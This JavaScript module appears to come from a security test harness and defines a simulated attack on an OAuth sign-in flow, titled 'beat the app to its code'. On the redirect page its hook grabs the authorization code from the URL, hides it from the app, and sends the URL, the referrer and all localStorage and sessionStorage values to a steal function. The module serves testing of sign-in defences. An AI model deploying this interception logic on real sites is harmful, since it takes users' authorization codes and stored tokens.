import { attack } from "../attack.js";

export default attack({
  name: "beat the app to its code",
  threat: "acquisition of new tokens",
  target: "any",
  // On the page where the sign-in ends, before the app: the code from the URL, the verifier from where it waits.
  hook(it) {
    if (!/[?&#]code=/.test(location.href)) return;
    const { href } = location;
    history.replaceState(null, "", location.pathname);
    it.steal(href, document.referrer, Object.values(localStorage), Object.values(sessionStorage));
  },
  async play(stage) {
    await stage.forgetEverything();
    await stage.open();
    await stage.browser.markDocument();
    await stage.click("sign-in");
    // The app may or may not recover from having lost its code.
    await stage.waitToBeBack();
  },
});
